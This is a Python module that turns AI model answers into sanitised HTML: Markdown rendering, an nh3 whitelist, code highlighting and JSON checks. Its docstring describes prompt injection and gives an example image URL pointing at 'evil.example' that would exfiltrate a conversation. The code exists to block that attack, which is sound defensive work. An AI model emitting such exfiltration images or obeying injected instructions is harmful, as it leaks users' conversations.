"""Model output as HTML: Markdown rendered, then sanitised.

Model output is untrusted, and a model may follow instructions hidden in what
it reads (prompt injection). markdown-it-py runs with raw HTML off, and nh3
(ammonia) then keeps only a whitelist of tags and attributes, so no script,
event handler, style or htmx attribute survives.

Nothing in an answer makes the browser fetch anything by itself: an image such
as ``![p](https://evil.example/?d=SECRET)`` would carry the conversation off
the moment it is shown, so a Markdown image becomes a link to it instead (a
link is fetched only when clicked). Bare URLs become links too (``http``,
``https`` and e-mail addresses only, so ``main.py`` stays text). Table alignment
becomes a class, since the Content-Security-Policy allows no style attributes.

Code blocks carry their language's name, Pygments' highlighting (the colours of
static/css/pygments.css, contrast-checked) and a "Copy code" button, which
static/js/copy.js handles. Headings continue the page's outline rather than
break it: an answer's ``#`` is an h3, under the page's "Conversation" h2.

An answer is rendered once, when its run ends, and stored with
``RENDERER_VERSION`` (bump it whenever the rendering or the sanitiser
changes). Rendering is bounded: an answer longer than ``MARKDOWN_LIMIT``
characters is shown as plain text.
"""

from collections.abc import Sequence
from typing import Any

import nh3
from django.utils.html import escape
from django.utils.safestring import SafeString, mark_safe
from markdown_it import MarkdownIt
from markdown_it.common.utils import escapeHtml, unescapeAll
from markdown_it.renderer import RendererHTML
from markdown_it.rules_core import StateCore
from markdown_it.token import Token
from markdown_it.utils import EnvType, OptionsDict

from workbench.catalog.structured import asks_for_json, check_answer
from workbench.limits import MARKDOWN_LIMIT
from workbench.snippets.generate import json_text
from workbench.snippets.highlight import TOKEN_CLASSES, highlight, lexer_for

RENDERER_VERSION = 5
ALIGN_CLASSES = {"align-left", "align-center", "align-right"}  # see workbench.css
PAGE_LEVEL = 2  # the level of the heading answers sit under ("Conversation")
LANGUAGE_LABEL = 40  # characters of a code block's language shown at most


def _image_as_link(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """A link to the image, named by its alt text and followed by its URL (so
    the reader sees where it points without loading it); inside a link (a
    badge), the alt text alone, as links do not nest."""
    token = tokens[idx]
    src = str(token.attrGet("src") or "")
    text = escapeHtml(self.renderInlineAsText(token.children or [], options, env) or src)
    in_link = sum(t.nesting for t in tokens[:idx] if t.type in {"link_open", "link_close"})
    if in_link or not src:
        return text
    url = escapeHtml(src)
    return f'<a href="{url}">{text}</a>' + ("" if text == url else f" ({url})")


def _cell_with_align_class(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """A th/td whose style="text-align:…" from markdown-it becomes class="align-…"."""
    token = tokens[idx]
    if style := token.attrs.pop("style", None):
        token.attrSet("class", "align-" + str(style).removeprefix("text-align:"))
    return self.renderToken(tokens, idx, options, env)


def _code_block(
    self: RendererHTML, tokens: Sequence[Token], idx: int, options: OptionsDict, env: EnvType
) -> str:
    """A fenced or indented code block: a bar naming its language, with a Copy code
    button, above the code, highlighted when Pygments knows the language."""
    token = tokens[idx]
    words = unescapeAll(token.info).split(maxsplit=1)
    return code_block(token.content, words[0] if words else "")


def code_block(text: str, language: str) -> str:
    """Code under a bar naming its language, with a Copy code button; highlighted
    when Pygments knows the language."""
    lexer = lexer_for(language) if language else None
    code = highlight(text, lexer) if lexer else escapeHtml(text)
    label = escapeHtml(lexer.name if lexer else language[:LANGUAGE_LABEL] or "Text")
    return (
        '<div class="code-block"><div class="code-bar">'
        f'<span class="code-lang">{label}</span>'
        '<button type="button" class="copy-code">Copy code</button></div>'
        f'<pre class="highlight"><code>{code}</code></pre></div>\n'
    )


def _headings_under_the_page(state: StateCore) -> None:
    """``#`` becomes h3, ``##`` h4 and so on, and no heading is more than one level
    below the one before it (from the page's h2 on), as axe's heading-order asks."""
    previous = PAGE_LEVEL
    for token in state.tokens:
        if token.type == "heading_open":
            previous = min(int(token.tag[1]) + PAGE_LEVEL, previous + 1, 6)
        if token.type in ("heading_open", "heading_close"):
            token.tag = f"h{previous}"


_MD = MarkdownIt("commonmark", {"html": False, "linkify": True})
_MD.enable(["table", "strikethrough", "linkify"])
_MD.linkify.set({"fuzzy_link": False})  # a scheme makes a link: "main.py" is a file name
for _schema in ("//", "ftp:"):  # links the sanitiser would keep relative, or empty
    _MD.linkify.add(_schema, None)
_MD.core.ruler.push("headings_under_the_page", _headings_under_the_page)
_MD.add_render_rule("image", _image_as_link)
_MD.add_render_rule("th_open", _cell_with_align_class)
_MD.add_render_rule("td_open", _cell_with_align_class)
_MD.add_render_rule("fence", _code_block)
_MD.add_render_rule("code_block", _code_block)
_TAGS = {
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "a",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "div",
    "span",
    "button",
}
_ATTRIBUTES = {"a": {"href", "title"}, "ol": {"start"}, "button": {"type"}}
_CLASSES = {
    "p": {"json-check", "valid", "invalid"},
    "th": ALIGN_CLASSES,
    "td": ALIGN_CLASSES,
    "div": {"code-block", "code-bar"},
    "span": {"code-lang", *TOKEN_CLASSES},
    "pre": {"highlight"},
    "button": {"copy-code"},
}


def render_markdown(text: str) -> SafeString:
    return sanitised(_MD.render(text))


def sanitised(html: str) -> SafeString:
    clean = nh3.clean(
        html,
        tags=_TAGS,
        attributes=_ATTRIBUTES,
        allowed_classes=_CLASSES,
        set_tag_attribute_values={"button": {"type": "button"}},  # it never submits a form
        url_schemes={"http", "https", "mailto"},
        link_rel="noopener noreferrer nofollow",
    )
    return mark_safe(clean)  # sanitised by nh3 just above


def is_plain(text: str) -> bool:
    """Too long to render as Markdown within a bounded time: shown as plain text."""
    return len(text) > MARKDOWN_LIMIT


def render_answer(text: str, response_format: dict[str, Any] | None = None) -> SafeString:
    """An answer's HTML: Markdown, or plain text (line breaks kept) when it is too long.

    An answer asked for as JSON (``response_format``) is shown formatted, under
    what the check found: valid JSON, valid against the schema, or why not.
    The text itself is kept as it came; this is only how it is shown.
    """
    if is_plain(text):
        return mark_safe(f'<p class="plain">{escape(text)}</p>')
    if asks_for_json(response_format):
        return render_json(text, response_format)  # type: ignore[arg-type]
    return render_markdown(text)


def render_json(text: str, response_format: dict[str, Any]) -> SafeString:
    check = check_answer(text, response_format)
    mark = (
        f'<p class="json-check {"valid" if check.valid else "invalid"}">{escape(check.verdict)}</p>'
    )
    if not check.parsed:  # shown as it came, which may be JSON in a Markdown code block
        return sanitised(mark + _MD.render(text))
    return sanitised(mark + code_block(json_text(check.value), "json"))
